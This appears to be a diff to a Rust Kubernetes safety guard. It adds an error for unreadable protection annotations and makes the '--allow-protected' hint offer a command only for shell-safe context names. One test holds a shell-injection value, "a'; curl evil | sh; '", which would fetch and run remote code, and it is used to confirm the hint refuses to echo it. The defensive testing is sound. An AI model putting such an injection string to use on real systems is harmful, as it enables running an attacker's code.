@@ -3,7 +3,7 @@
 
 use std::fmt;
 
-use winconform_core::text::printable;
+use winconform_core::text::{SHOWN, is_hostile, printable};
 use winconform_core::way::ApiRequest;
 
 use super::connect::Cluster;
@@ -42,11 +42,32 @@ pub enum Guarded {
         /// The annotation's value.
         says: String,
     },
+    /// Nobody can tell.
+    #[error(
+        "whether the cluster of context `{}` is protected cannot be told: the annotation \
+         `{PROTECTED}` of its namespace kube-system was not read: {}\n{}",
+        printable(context),
+        printable(why),
+        hint(context)
+    )]
+    Unread {
+        /// The context.
+        context: String,
+        /// Why it was not read.
+        why: String,
+    },
 }
 
+/// How to go on: as a command only where a shell takes the name as it is shown.
 fn hint(context: &str) -> String {
-    let context = printable(context);
-    format!("(to go on nevertheless, on this one alone: --allow-protected '{context}')")
+    let option = match context.contains('\'')
+        || context.contains(is_hostile)
+        || context.chars().count() > SHOWN
+    {
+        true => "--allow-protected with the name of the context".to_owned(),
+        false => format!("--allow-protected '{context}'"),
+    };
+    format!("(to go on nevertheless, on this one alone: {option})")
 }
 
 /// That nobody can tell whether a cluster says that it is protected.
@@ -69,8 +90,9 @@ impl fmt::Display for Unread {
     }
 }
 
-/// Refuses a protected cluster, unless its context is the one that is `allowed`. An annotation that
-/// cannot be read protects nothing, which is to be said.
+/// Refuses a protected cluster, unless its context is the one that is `allowed`, and one of which
+/// nobody can tell. To who may not read the annotation it protects nothing, which is to be said; nor
+/// does that of a namespace that is not there.
 pub async fn guard(
     cluster: &Cluster,
     protected: &[String],
@@ -87,17 +109,23 @@ pub async fn guard(
             named: named.clone(),
         });
     }
-    let unread = |because: String| {
+    let unread = |why: String| {
         let context = context.clone();
-        Ok(Some(Unread { context, because }))
+        Err(Guarded::Unread { context, why })
     };
     let reply = match cluster.api.send(&ApiRequest::get(NAMESPACE)).await {
         Ok(reply) => reply,
         Err(trouble) => return unread(trouble.to_string()),
     };
-    if reply.status != 200 {
-        let words = reply.body["message"].as_str().unwrap_or("no message");
-        return unread(format!("status {}: {words}", reply.status));
+    let said = || format!("status {}: {}", reply.status, reply.message());
+    match reply.status {
+        200 => {}
+        403 => {
+            let (context, because) = (context.clone(), said());
+            return Ok(Some(Unread { context, because }));
+        }
+        404 => return Ok(None),
+        _ => return unread(said()),
     }
     let annotation = &reply.body["metadata"]["annotations"][PROTECTED];
     match annotation.as_str() {
@@ -194,7 +222,7 @@ mod tests {
         // Nor does what an error's body claims
         let body =
             json!({"message": "no\u{1b}[31m", "metadata": {"annotations": {PROTECTED: "x"}}});
-        fake.script(&format!("GET {NAMESPACE} "), 403, body);
+        fake.script(&format!("GET {NAMESPACE} "), 403, body.clone());
         let told = guard(&cluster(&fake), &[], None).await;
         let told = told
             .expect("it protects nothing")
@@ -205,5 +233,41 @@ mod tests {
         assert_eq!(told.as_deref(), Some(line));
         let allowed = guard(&cluster(&fake), &[], Some("prod-admin")).await;
         assert_eq!(allowed, Ok(None));
+        // Where there is no such namespace, it says nothing
+        fake.script(&format!("GET {NAMESPACE} "), 404, body);
+        assert_eq!(guard(&cluster(&fake), &[], None).await, Ok(None));
+    }
+
+    #[tokio::test(start_paused = true)]
+    async fn nothing_is_made_where_it_cannot_be_told() {
+        // The API's own trouble, and an answer that is none
+        for status in [500, 503, 429, 401, 418, 201] {
+            let fake = Fake::default();
+            let body = json!({"kind": "Status", "message": "etcdserver: no leader"});
+            fake.script(&format!("GET {NAMESPACE} "), status, body);
+            let cluster = cluster(&fake);
+            let refused = guard(&cluster, &[], None).await;
+            let said = refused.expect_err("nobody knows").to_string();
+            for part in [
+                "whether the cluster of context `prod-admin` is protected cannot be told",
+                "etcdserver: no leader",
+                "--allow-protected 'prod-admin'",
+            ] {
+                assert!(said.contains(part), "{status}: {said}");
+            }
+            assert_eq!(guard(&cluster, &[], Some("prod-admin")).await, Ok(None));
+        }
+    }
+
+    #[test]
+    fn a_command_is_offered_only_where_a_shell_takes_it_as_it_is_shown() {
+        let plain = "kind prod; $(x) `y`";
+        assert!(hint(plain).contains(&format!("--allow-protected '{plain}'")));
+        let long = "x".repeat(SHOWN + 1);
+        for odd in ["a'; curl evil | sh; '", "a\u{202e}b", "a\nb", "a\rb", &long] {
+            let said = hint(odd);
+            assert!(said.contains("--allow-protected with"), "{said}");
+            assert!(!said.contains(odd) && !said.contains('\''), "{said}");
+        }
     }
 }
